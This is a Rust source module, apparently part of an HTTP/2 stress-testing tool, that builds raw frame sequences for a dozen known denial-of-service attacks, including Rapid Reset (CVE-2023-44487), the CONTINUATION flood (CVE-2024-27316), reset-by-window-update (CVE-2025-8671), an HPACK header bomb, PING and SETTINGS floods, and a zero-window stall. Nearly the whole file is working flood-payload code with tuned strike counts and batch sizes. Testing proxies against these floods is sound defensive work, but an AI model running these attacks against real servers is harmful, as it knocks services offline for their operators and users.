//! What each attack sends: an opening, and then the same strike over and over.

use clap::ValueEnum;
use serde::{Deserialize, Serialize};

use super::frame::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Method, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, field, request, write,
};
use crate::workload::ANSWER_BYTES;

/// By the advisories they come from.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Attack {
    /// A request, cancelled at once (CVE-2023-44487)
    RapidReset,
    /// A request, and a window update of nothing: the proxy has to reset it (CVE-2025-8671)
    ResetByWindow,
    /// A request, and data after its end: the same
    ResetByData,
    /// A header block that does not end, 1 KiB at a time (CVE-2024-27316)
    Continuation,
    /// The same with nothing in it
    ContinuationEmpty,
    Ping,
    Settings,
    /// A body of empty frames
    EmptyData,
    /// A body of frames of one byte
    TinyData,
    Priority,
    /// Header blocks of 16,000 references to a field of 4 KB
    HpackBomb,
    /// Not a flood: 100 requests of 1 MB whose answers are given no window
    ZeroWindow,
}

impl Attack {
    /// Those that are told apart by where they are cut.
    pub(crate) const FLOODS: [Self; 11] = [
        Self::RapidReset,
        Self::ResetByWindow,
        Self::ResetByData,
        Self::Continuation,
        Self::ContinuationEmpty,
        Self::Ping,
        Self::Settings,
        Self::EmptyData,
        Self::TinyData,
        Self::Priority,
        Self::HpackBomb,
    ];

    pub(crate) fn name(self) -> String {
        self.to_possible_value().map(|value| value.get_name().to_owned()).unwrap_or_default()
    }

    pub(super) fn script(self) -> Script {
        let (total, batch) = match self {
            Self::RapidReset | Self::ResetByWindow | Self::ResetByData => (5_000, 10),
            Self::Continuation => (20_000, 4),
            Self::HpackBomb => (20, 1),
            Self::ZeroWindow => (0, 1),
            _ => (50_000, 50),
        };
        Script { attack: self, total, batch }
    }
}

/// How an attack goes.
pub(super) struct Script {
    attack: Attack,
    /// How many strikes there are at most
    pub(super) total: u64,
    /// How many go out before the answer to a PING is awaited
    pub(super) batch: u64,
}

impl Script {
    /// Whether a PING may stand between strikes: nothing may stand inside a header block (RFC 9113 §6.10).
    pub(super) fn allows_ping(&self) -> bool {
        !matches!(self.attack, Attack::Continuation | Attack::ContinuationEmpty)
    }

    /// What comes before the first strike.
    pub(super) fn opening(&self) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        let settings: &[u8] =
            if self.attack == Attack::ZeroWindow { &[0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0] } else { &[] };
        write(&mut out, SETTINGS, 0, 0, settings);
        match self.attack {
            Attack::Continuation | Attack::ContinuationEmpty => {
                write(&mut out, HEADERS, END_STREAM, 1, &get());
            }
            Attack::EmptyData | Attack::TinyData => {
                write(&mut out, HEADERS, END_HEADERS, 1, &request(Method::Post, "/swallow"));
            }
            Attack::HpackBomb => {
                let mut block = get();
                field(&mut block, true, b"x", &[b'a'; 4_000]);
                write(&mut out, HEADERS, END_HEADERS | END_STREAM, 1, &block);
            }
            Attack::ZeroWindow => {
                let block = request(Method::Get, "/1000000");
                for stream in 0..100 {
                    write(&mut out, HEADERS, END_HEADERS | END_STREAM, 2 * stream + 1, &block);
                }
            }
            _ => {}
        }
        out
    }

    /// Appends one strike.
    pub(super) fn strike(&self, number: u64, out: &mut Vec<u8>) {
        let stream = u32::try_from(2 * number + 3).unwrap_or(u32::MAX >> 1);
        match self.attack {
            Attack::RapidReset => {
                write(out, HEADERS, END_HEADERS | END_STREAM, stream, &get());
                write(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            }
            Attack::ResetByWindow => {
                write(out, HEADERS, END_HEADERS | END_STREAM, stream, &get());
                write(out, WINDOW_UPDATE, 0, stream, &[0; 4]);
            }
            Attack::ResetByData => {
                write(out, HEADERS, END_HEADERS | END_STREAM, stream, &get());
                write(out, DATA, END_STREAM, stream, b"x");
            }
            Attack::Continuation => {
                let mut block = Vec::with_capacity(1_024);
                field(&mut block, false, format!("x-{number}").as_bytes(), &[b'c'; 1_000]);
                write(out, CONTINUATION, 0, 1, &block);
            }
            Attack::ContinuationEmpty => write(out, CONTINUATION, 0, 1, &[]),
            Attack::Ping => write(out, PING, 0, 0, &number.to_be_bytes()),
            Attack::Settings => write(out, SETTINGS, 0, 0, &[]),
            Attack::EmptyData => write(out, DATA, 0, 1, &[]),
            Attack::TinyData => write(out, DATA, 0, 1, b"x"),
            Attack::Priority => write(out, PRIORITY, 0, stream, &[0, 0, 0, 0, 15]),
            Attack::HpackBomb => {
                let mut block = get();
                block.resize(block.len() + 16_000, NEWEST);
                write(out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
            }
            Attack::ZeroWindow => {}
        }
    }
}

fn get() -> Vec<u8> {
    request(Method::Get, &format!("/{ANSWER_BYTES}"))
}

/// The newest entry of the peer's table, as an indexed field (RFC 7541 §6.1): the static table has 61.
const NEWEST: u8 = 0x80 | 62;
const INITIAL_WINDOW_SIZE: u8 = 4;
const CANCEL: u32 = 8;
